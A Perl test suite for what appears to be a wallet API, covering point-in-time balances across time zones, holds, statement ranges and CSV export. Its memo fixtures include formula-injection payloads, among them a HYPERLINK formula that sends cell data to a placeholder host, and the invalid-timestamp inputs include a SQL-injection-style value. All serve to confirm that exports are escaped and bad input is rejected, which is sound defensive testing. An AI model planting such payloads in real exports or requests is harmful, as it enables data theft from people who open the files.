#!/usr/bin/env perl

# The edges of time and of words: a wallet before it began, at a posting's own
# moment, in any zone and in no zone; a statement whose end is its beginning;
# and memos that would be something else in a spreadsheet.

use strict;
use warnings;

use FindBin;
use lib "$FindBin::RealBin/../lib";

use Azora::Process qw(poll_until);
use Azora::Story qw(documented fund is_problem is_sound);
use Azora::Test;
use Test::More;

my $azora = Azora::Test->start(workers => 1);
my ($amina, $baraka) = map { $azora->user($_) } qw(amina baraka);
my @amina = (token => $amina->{token});
my $WALLET = '/v1/wallets/KES';
my $r;

my $keys = 0;

sub pay {
    my (%body) = @_;
    my $r = $azora->post("$WALLET/transfers", @amina, key => 'k-' . ++$keys,
        json => { to => $baraka->{id}, amount => '1', %body });
    is $r->{status}, 201, 'paid' or diag $r->{body};
    return $r->{json};
}

sub escaped { return $_[0] =~ s/([^\w.:-])/sprintf '%%%02X', ord $1/ger }

sub wallet_at {
    my ($at) = @_;
    return $azora->get("$WALLET?at=" . escaped($at), @amina);
}

# The moment so many microseconds after another, in a zone.
sub moment {
    my ($at, $us, $zone) = @_;
    return $azora->value(q{SELECT to_char(
        ($1::timestamptz + $2 * interval '1 us') AT TIME ZONE $3,
        'YYYY-MM-DD"T"HH24:MI:SS.US')}, $at, $us, $zone);
}

# Lines of a CSV as RFC 4180 has them.
sub csv {
    my ($text) = @_;
    my (@lines, @line);
    while ($text =~ /\G(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gc) {
        my ($field, $end) = ($1 // $2, $3);
        push @line, $field =~ s/""/"/gr;
        next if $end eq ',';
        push @lines, [@line];
        @line = ();
    }
    is pos($text) // 0, length $text, 'all of it is CSV';
    return @lines;
}

fund($azora, $amina, 'KES', 100_000);
my @paid;
for (1 .. 4) {
    # each in a millisecond of its own
    my $last = @paid ? $paid[-1]{created_at} : '';
    push @paid, pay();
    ok $paid[-1]{created_at} gt $last, 'later';
    poll_until(5, sub { $azora->value('SELECT clock_timestamp()
        > $1::timestamptz + interval $$2 ms$$', $paid[-1]{created_at}) });
}


subtest 'a wallet at the moment of a posting' => sub {
    for my $i (0 .. $#paid) {
        my $at = $paid[$i]{created_at};
        my ($before, $after) = map { sprintf '%.2f', $_ }
                               1000 - $i, 999 - $i;

        is wallet_at($at)->{json}{posted}, $after, 'has it';
        is wallet_at($at)->{json}{at}, $at, 'and says when';
        is wallet_at(moment($at, -1, 'UTC') . 'Z')->{json}{posted}, $before,
           'a microsecond before not yet';

        for (['+03:00', 'Africa/Nairobi'], ['-03:30', '3:30'],
             ['+05:45', '-5:45'], ['+00:00', 'UTC'])
        {
            my ($zone, $name) = @$_;
            is wallet_at(moment($at, 0, $name) . $zone)->{json}{posted},
               $after, "in the zone $zone";
            is wallet_at(moment($at, -1, $name) . $zone)->{json}{posted},
               $before, 'to the microsecond';
        }
    }
};


subtest 'a wallet at the moment of a hold' => sub {
    my $ends = sub {
        my ($end) = @_;
        my $hold = $azora->post('/v1/holds', @amina, key => 'k-' . ++$keys,
            json => { currency => 'KES', to => $baraka->{id},
                      amount => '7' })->{json}{id};
        $azora->post("/v1/holds/$hold/$end", key => 'k-' . ++$keys,
                     token => $baraka->{token}) if $end;
        my ($row) = $azora->sql('SELECT created_at, settled_at
                                 FROM ledger.hold WHERE id = ?', $hold);
        return @$row{qw(created_at settled_at)};
    };
    my $pending = sub {
        my ($at, $us, @who) = @_;
        return $azora->get("$WALLET?at=" . moment($at, $us, 'UTC') . 'Z',
                           @who ? @who : @amina)->{json}{pending};
    };
    my ($begun, $ended) = $ends->('void');
    my ($open) = $ends->();

    is_deeply [map { $pending->($begun, $_) } -1, 0], ['0.00', '7.00'],
              'it begins when it was placed';
    is_deeply [map { $pending->($ended, $_) } -1, 0], ['7.00', '0.00'],
              'and is over when it ended';
    is $pending->($open, 0), '7.00', 'another one that is not over';
    is $pending->($open, 0, token => $baraka->{token}), '0.00',
       'is the payer\'s and nobody else\'s';
    $azora->sql(q{SELECT ledger.give_hold_back(h.id, 'voided')
                  FROM ledger.hold AS h WHERE h.state = 'pending'});
};


subtest 'a wallet before it began, and later than now' => sub {
    for my $at ('0001-01-01T00:00:00Z', '1970-01-01T00:00:00Z',
                '2000-02-29T23:59:59.999999-12:00')
    {
        my $r = wallet_at($at);
        is $r->{json}{posted}, '0.00', "nothing at $at" or diag $r->{body};
        documented($azora, $r, 'GET /v1/wallets/{currency}');
    }
    is wallet_at('9999-12-31T23:59:59Z')->{json}{posted}, '996.00',
       'what comes is not known';
    is $azora->get("$WALLET?at=1970-01-01T00:00:00Z",
                   token => $azora->user('new')->{token})->{json}{posted},
       '0.00', 'nothing of one who has no wallet';

    is_problem(wallet_at($_), 422, 'validation-failed', '?at') for
        '', 'now', 'infinity', '2020', '2020-01-01', '2020-01-01T00:00:00',
        '2020-01-01 00:00:00Z', '2020-02-30T00:00:00Z',
        '2021-02-29T00:00:00Z', '2020-13-01T00:00:00Z',
        '2020-01-01T24:00:00Z', '2020-01-01T00:61:00Z',
        '2020-01-01T00:00:00+25:00', '2020-01-01T00:00:00EAT',
        '10000-01-01T00:00:00Z', "2020-01-01T00:00:00Z'--";
    is_problem($azora->get("$WALLET/statement?$_=yesterday", @amina), 422,
               'validation-failed', "?$_") for qw(from to);
};


subtest 'a statement whose ends are moments' => sub {
    my @at = map { $_->{created_at} } @paid;
    my $ids = sub {
        my (%of) = @_;
        my $r = $azora->get("$WALLET/statement?" . join('&', map {
            "$_=" . escaped($of{$_}) } sort keys %of), @amina);
        return [map { $_->{transfer} } @{ $r->{json}{items} }];
    };

    is_deeply $ids->(from => $at[1], to => $at[3]),
              [map { $_->{id} } @paid[2, 1]], 'from is in it, to is not';
    is_deeply $ids->(from => $at[1],
                     to => moment($at[3], 1, 'UTC') . 'Z'),
              [map { $_->{id} } @paid[3, 2, 1]], 'to the microsecond';
    is_deeply $ids->(from => moment($at[1], 1, 'Africa/Nairobi') . '+03:00',
                     to => $at[3]), [$paid[2]{id}], 'in any zone';
    is_deeply $ids->(from => $at[2], to => $at[2]), [],
              'nothing is in no time';
    is_deeply $ids->(from => $at[3], to => $at[0]), [],
              'nor in less than none';
    is_deeply $ids->(from => '0001-01-01T00:00:00Z', to => $at[0]),
              [$azora->value('SELECT id FROM ledger.transfer
                              ORDER BY id LIMIT 1')], 'all before the first';
};


subtest 'what is no formula in a spreadsheet' => sub {
    my %memos = (
        '=HYPERLINK("http://x.test/?"&A1)' => 1, '+1+1' => 1, '-2+3' => 1,
        '@SUM(A1)' => 1, "\t=1" => 1, "\r=1" => 1, "\n=1" => 1,
        "\x{ff1d}1+1" => 1, "\x{ff0b}1" => 1, "\x{ff0d}1" => 1,
        "\x{ff20}SUM(A1)" => 1, '"quoted", with a comma' => 0,
        "two\r\nlines" => 0, 'a=b' => 0, ' spaces ' => 0, "'" => 0,
        '""' => 0, ',' => 0, "\x{1F33D} maize" => 0);
    my @memos = sort keys %memos;
    my %memo_of = map { (pay(memo => $_)->{id} => $_) } @memos;

    my ($path, %seen) = "$WALLET/statement?format=csv&limit=5&from="
        . escaped($paid[0]{created_at}) . '&to=2100-01-01T00:00:00%2B03:00';
    my $pages = 0;

    while ($path && $pages++ < 20) {
        $r = $azora->get($path, @amina);
        is $r->{status}, 200, "page $pages";
        my $text = $r->{body};
        utf8::decode($text);
        my ($head, @lines) = csv($text);
        is_deeply $head, [qw(seq at amount balance kind counterparty memo
                             transfer)], 'each with its head';
        for (@lines) {
            is scalar @$_, 8, 'eight fields';
            $seen{ $_->[7] }++;
            my $memo = $memo_of{ $_->[7] } // '';
            is $_->[6], ($memos{$memo} ? "'" : '') . $memo, 'the memo';
        }
        ($path) = ($r->{headers}{link} // '') =~ /^<(.+)>; rel="next"$/;
    }
    is_deeply [sort keys %seen],
              [sort keys %memo_of, map { $_->{id} } @paid],
              'all of them between the two times';
    is_deeply [grep { $_ != 1 } values %seen], [], 'once each';

    is $azora->get("$WALLET/statement?limit=1&cursor=" . ($azora->get(
        "$WALLET/statement?limit=1", @amina)->{json}{next}), @amina)
        ->{json}{items}[0]{memo}, $memos[-2],
       'in JSON they are as they were written';
    is_problem($azora->get("$WALLET/statement?format=csv&cursor=QQ", @amina),
               400, 'invalid-cursor');
    is_sound($azora);
};

done_testing;
